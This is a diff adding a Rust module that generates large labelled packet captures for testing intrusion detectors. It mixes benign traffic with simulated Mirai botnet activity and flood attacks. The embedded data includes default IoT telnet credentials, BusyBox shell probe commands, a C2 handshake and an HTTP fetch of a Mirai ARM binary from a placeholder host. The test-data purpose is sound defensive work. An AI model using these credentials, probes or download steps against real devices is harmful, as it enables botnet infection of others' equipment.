@@ -1,0 +1,192 @@
+//! A large labelled capture: every attack the detectors know, each from its own bot,
+//! spread through benign background, streamed to any writer (a capture of a GiB never
+//! sits in memory), with the ground truth returned beside it.
+
+use std::io::Write;
+use std::net::Ipv4Addr;
+
+use crate::attacks::{
+    ack_flood, dns_query, dns_water_torture, gre_flood, http_flood, syn_flood, udp_flood,
+    vse_flood, Flood, Rng,
+};
+use crate::background::background;
+use crate::{mirai_scan, tcp_session, Capture};
+
+/// What BusyBox telnetd opens with and Mirai's client answers (§1.4).
+const TELNETD_OPENING: &[u8] = b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03";
+const MIRAI_REPLY: &[u8] =
+    b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03";
+
+/// The kinds of labelled attack, in the order they take turns.
+pub const ATTACK_KINDS: usize = 14;
+
+/// Writes a capture of at least `frames` frames and `attacks` labelled attacks to
+/// `out`: background, with one attack every `frames / attacks` frames (kinds taking
+/// turns). Returns the
+/// frames written and the ground truth: (detection id, source) for every alert a
+/// perfect detector raises.
+pub fn write_mixed(
+    out: &mut impl Write,
+    seed: u64,
+    frames: u64,
+    attacks: u64,
+) -> std::io::Result<(u64, Vec<(&'static str, Ipv4Addr)>)> {
+    let mut rng = Rng::new(seed);
+    let mut cap = Capture::default();
+    let mut truth = Vec::new();
+    let mut t = 1_790_000_000.0;
+    let per_slot = (frames / attacks.max(1)).max(1);
+    let mut n = 0u64;
+    while cap.frames() < frames || n < attacks {
+        let target = cap.frames() + per_slot;
+        t = background(&mut cap, &mut rng, t, per_slot / 2, 0.02);
+        attack(&mut cap, &mut rng, n, t);
+        n += 1;
+        t += 2.0;
+        let left = target.saturating_sub(cap.frames());
+        t = background(&mut cap, &mut rng, t, left, 0.02);
+        truth.append(&mut cap.truth);
+        out.write_all(&cap.take_bytes())?;
+    }
+    Ok((cap.frames(), truth))
+}
+
+/// The bot of the `n`th attack: 10.0.0.0/16 (the background's hosts are elsewhere).
+fn bot(n: u64) -> Ipv4Addr {
+    Ipv4Addr::new(10, 0, (n >> 8) as u8, (n & 0xff) as u8)
+}
+
+fn attack(cap: &mut Capture, rng: &mut Rng, n: u64, t: f64) {
+    let bot = bot(n);
+    let victim = Ipv4Addr::new(198, 51, 100, 1 + (n % 250) as u8);
+    let flood = |packets| Flood {
+        bot,
+        target: victim,
+        t0: t,
+        packets,
+        rate: 1000.0,
+    };
+    let port = 40_000 + (n % 20_000) as u16;
+    match n % ATTACK_KINDS as u64 {
+        0 => {
+            let targets: Vec<Ipv4Addr> = (0..20)
+                .map(|_| Ipv4Addr::from(0xc633_6400 | (rng.u32() & 0xff)))
+                .collect();
+            // Distinct targets: the scanner's random walk rarely repeats.
+            let mut distinct = targets.clone();
+            distinct.sort_unstable();
+            distinct.dedup();
+            mirai_scan(cap, bot, &distinct, t, true);
+            // Its own resolver lookup, which corroborates.
+            cap.frame(
+                t,
+                &dns_query(
+                    bot,
+                    Ipv4Addr::new(8, 8, 8, 8),
+                    port,
+                    rng.u16(),
+                    b"report.example",
+                    1,
+                ),
+            );
+            cap.truth.push(("dns-direct-8888", bot));
+        }
+        1 => vse_flood(cap, rng, &flood(100)),
+        2 => syn_flood(cap, rng, &flood(50)),
+        3 => ack_flood(cap, rng, &flood(200)),
+        4 => udp_flood(cap, rng, &flood(200)),
+        5 => gre_flood(cap, rng, &flood(30), n % 2 == 0),
+        6 => dns_water_torture(cap, rng, &flood(40), "victim.example"),
+        7 => http_flood(cap, (bot, port), victim, t, 25, n % 2 == 0),
+        8 => {
+            // The loader: Mirai's client reply and its probes.
+            tcp_session(
+                cap,
+                (bot, port),
+                (victim, 23),
+                &[
+                    (false, TELNETD_OPENING),
+                    (true, MIRAI_REPLY),
+                    (false, b"\r\nlogin: "),
+                    (true, b"root\r\n"),
+                    (false, b"Password: "),
+                    (true, b"xc3511\r\n"),
+                    (false, b"\r\n# "),
+                    (true, b"enable\r\nshell\r\nsh\r\n"),
+                    (true, b"/bin/busybox ECCHI\r\n"),
+                    (false, b"ECCHI: applet not found\r\n# "),
+                    (
+                        true,
+                        b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n",
+                    ),
+                ],
+                t,
+            );
+            cap.truth.push(("mirai-telnet-client", bot));
+            cap.truth.push(("mirai-shell-content", bot));
+        }
+        9 => {
+            let mut report = vec![0u8];
+            report.extend_from_slice(&victim.octets());
+            report.extend_from_slice(&23u16.to_be_bytes());
+            report.push(4);
+            report.extend_from_slice(b"root");
+            report.push(6);
+            report.extend_from_slice(b"xc3511");
+            tcp_session(
+                cap,
+                (bot, port),
+                (Ipv4Addr::new(203, 0, 113, 250), 48101),
+                &[(true, &report)],
+                t,
+            );
+            cap.truth.push(("mirai-report", bot));
+        }
+        10 => {
+            tcp_session(
+                cap,
+                (bot, port),
+                (Ipv4Addr::new(203, 0, 113, 251), 23),
+                &[(true, &[0, 0, 0, 1]), (true, b"\x0btelnet.arm7")],
+                t,
+            );
+            cap.truth.push(("mirai-c2-handshake", bot));
+        }
+        11 => {
+            tcp_session(
+                cap,
+                (bot, port),
+                (Ipv4Addr::new(203, 0, 113, 252), 80),
+                &[
+                    (true, b"GET /bins/mirai.arm7 HTTP/1.0\r\n\r\n"),
+                    (false, b"HTTP/1.0 200 OK\r\n\r\n\x7fELF\x01\x01\x01"),
+                ],
+                t,
+            );
+            cap.truth.push(("mirai-bins-download", bot));
+        }
+        12 => {
+            for i in 0..6u16 {
+                tcp_session(
+                    cap,
+                    (bot, port.wrapping_add(i)),
+                    (victim, 23),
+                    &[
+                        (false, b"login: "),
+                        (true, b"admin\r\n"),
+                        (false, b"Password: "),
+                        (true, b"1234\r\n"),
+                        (false, b"Login incorrect\r\nlogin: "),
+                    ],
+                    t + f64::from(i) * 0.1,
+                );
+            }
+            cap.truth.push(("telnet-bruteforce", bot));
+        }
+        _ => {
+            // A plain telnet scanner (seq is not the destination).
+            let targets: Vec<Ipv4Addr> = (1..=15).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
+            mirai_scan(cap, bot, &targets, t, false);
+        }
+    }
+}
